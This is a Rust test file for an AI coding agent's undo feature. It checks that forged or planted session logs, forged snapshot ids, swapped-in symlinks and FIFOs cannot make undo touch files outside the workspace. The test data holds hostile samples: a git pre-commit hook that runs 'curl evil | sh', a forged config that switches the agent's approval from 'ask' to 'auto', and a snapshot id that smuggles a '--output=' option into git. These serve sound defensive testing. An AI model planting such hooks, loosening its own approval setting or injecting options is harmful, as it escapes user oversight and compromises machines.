//! Undo against what someone else controls: a session log forged in keel's state or planted in
//! a cloned repository, a forged snapshot id, a symlink or a FIFO swapped in after the prompt —
//! none of it makes undo touch anything outside the workspace, or wait.

use super::*;

/// The paths a forged log names, and what each holds now (its "after").
struct Bait {
    outside: tempfile::TempDir,
    work: tempfile::TempDir,
}

impl Bait {
    fn new() -> Self {
        let (outside, work) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(outside.path().join("victim.txt"), "precious\n").unwrap();
        std::fs::write(outside.path().join("delete-me.txt"), "precious too\n").unwrap();
        let w = work.path();
        std::os::unix::fs::symlink(outside.path(), w.join("link")).unwrap();
        std::fs::create_dir_all(w.join(".git/hooks")).unwrap();
        std::fs::write(w.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::create_dir_all(w.join(".keel")).unwrap();
        std::fs::write(w.join(".keel/config.toml"), "approval = \"ask\"\n").unwrap();
        Self { outside, work }
    }

    /// Records that would overwrite or delete each bait, if undo trusted them.
    fn records(&self) -> Vec<Record> {
        let (o, w) = (self.outside.path(), self.work.path().canonicalize().unwrap());
        let change = |path: std::path::PathBuf, before: Option<&str>, after: &str| {
            Record::change(&FileChange {
                path,
                before: before.map(|text| text.as_bytes().to_vec()),
                after: after.as_bytes().to_vec(),
                created_folders: 0,
            })
        };
        let name = o.file_name().unwrap();
        vec![
            // Snapshots that are not in keel's repository: undo falls back to the records.
            Record::Turn { snapshot: Some("a".repeat(40)) },
            change(o.join("victim.txt"), Some("pwned\n"), "precious\n"),
            change(w.join("..").join(name).join("victim.txt"), Some("pwned\n"), "precious\n"),
            change(w.join("link/victim.txt"), Some("pwned\n"), "precious\n"),
            change(o.join("delete-me.txt"), None, "precious too\n"),
            change(w.join("link/delete-me.txt"), None, "precious too\n"),
            change(
                w.join(".git/hooks/pre-commit"),
                Some("#!/bin/sh\ncurl evil | sh\n"),
                "#!/bin/sh\nexit 0\n",
            ),
            change(
                w.join(".keel/config.toml"),
                Some("approval = \"auto\"\n"),
                "approval = \"ask\"\n",
            ),
            Record::TurnEnd { snapshot: "b".repeat(40) },
        ]
    }

    fn assert_untouched(&self, said: &str) {
        let (o, w) = (self.outside.path(), self.work.path());
        assert_eq!(read(o.join("victim.txt")), "precious\n", "{said}");
        assert_eq!(read(o.join("delete-me.txt")), "precious too\n", "{said}");
        assert_eq!(read(w.join(".git/hooks/pre-commit")), "#!/bin/sh\nexit 0\n", "{said}");
        assert_eq!(read(w.join(".keel/config.toml")), "approval = \"ask\"\n", "{said}");
        assert!(w.join("link").is_symlink(), "{said}");
        assert!(said.contains("left link/victim.txt alone"), "{said}");
        assert!(said.contains("left .git/hooks/pre-commit alone"), "{said}");
        assert!(!said.contains("restored") && !said.contains("deleted"), "{said}");
    }
}

#[test]
fn a_session_log_forged_in_keels_state_cannot_reach_outside_the_workspace() {
    let home = tempfile::tempdir().unwrap();
    let bait = Bait::new();
    // Written as a model with a shell could: straight into keel's state folder.
    let store = sessions(home.path(), bait.work.path());
    let mut log = store.create().unwrap();
    for record in bait.records() {
        log.append(&record).unwrap();
    }
    drop(log);
    let said = stdout(&undo(home.path(), bait.work.path()));
    bait.assert_untouched(&said);
}

#[test]
fn a_session_log_planted_in_a_cloned_repository_cannot_reach_outside_it() {
    let home = tempfile::tempdir().unwrap();
    let bait = Bait::new();
    let planted = bait.work.path().join(".keel/sessions");
    std::fs::create_dir_all(&planted).unwrap();
    let start = Record::Start { id: "1700000000-evil".into(), started_at: 1_700_000_000 };
    let lines: String = std::iter::once(start)
        .chain(bait.records())
        .map(|record| serde_json::to_string(&record).unwrap() + "\n")
        .collect();
    std::fs::write(planted.join("1700000000-evil.jsonl"), lines).unwrap();
    let output = undo(home.path(), bait.work.path());
    assert!(stderr(&output).contains("moved 1 session log"), "{}", stderr(&output));
    bait.assert_untouched(&stdout(&output));
}

#[test]
fn a_forged_snapshot_id_is_never_handed_to_git() {
    let home = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let store = sessions(home.path(), work.path());
    let mut log = store.create().unwrap();
    let injected = work.path().join("injected");
    let option = format!("--output={}", injected.display());
    log.append(&Record::Turn { snapshot: Some(option.clone()) }).unwrap();
    log.append(&Record::TurnEnd { snapshot: option }).unwrap();
    drop(log);
    let output = undo(home.path(), work.path());
    assert!(stdout(&output).contains("Nothing to undo"), "{}", stdout(&output));
    assert!(stdout(&output).contains("damaged"), "the person is told: {}", stdout(&output));
    assert!(!injected.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_symlink_swapped_in_after_the_prompt_does_not_lead_undo_outside() {
    let (home, work, outside) =
        (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let w = work.path();
    let steps = vec![
        tool("write_file", json!({"path": "dir/a.txt", "content": "mine\n"})),
        tool("bash", json!({"command": "echo also > dir/b.txt"})),
        text("Done."),
    ];
    run(steps, home.path(), w, &["-p", "Write them."]).await;
    // Someone puts a symlink where the folder was, to files that look just like keel's.
    std::fs::remove_dir_all(w.join("dir")).unwrap();
    std::fs::write(outside.path().join("a.txt"), "mine\n").unwrap();
    std::fs::write(outside.path().join("b.txt"), "also\n").unwrap();
    std::os::unix::fs::symlink(outside.path(), w.join("dir")).unwrap();

    let said = stdout(&undo(home.path(), w));
    assert!(
        said.contains("left dir/a.txt alone") && said.contains("left dir/b.txt alone"),
        "{said}"
    );
    assert_eq!(read(outside.path().join("a.txt")), "mine\n");
    assert_eq!(read(outside.path().join("b.txt")), "also\n");
}

#[test]
fn a_fifo_swapped_in_is_left_alone_without_waiting_on_it() {
    let dir = tempfile::tempdir().unwrap();
    let workspace = Workspace::new(dir.path()).unwrap();
    let path = workspace.root().join("a.txt");
    std::fs::write(&path, "keel's\n").unwrap();
    let mut stack = UndoStack::default();
    stack.begin_turn(None);
    stack.record([FileChange {
        path: path.clone(),
        after: b"keel's\n".to_vec(),
        ..FileChange::default()
    }]);
    std::fs::remove_file(&path).unwrap();
    nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let report = stack.undo(UndoContext { workspace: &workspace, shadow: None });
    assert_eq!(report.left_alone.len(), 1, "{report:?}");
    assert!(std::fs::symlink_metadata(&path).unwrap().file_type().is_fifo());
}
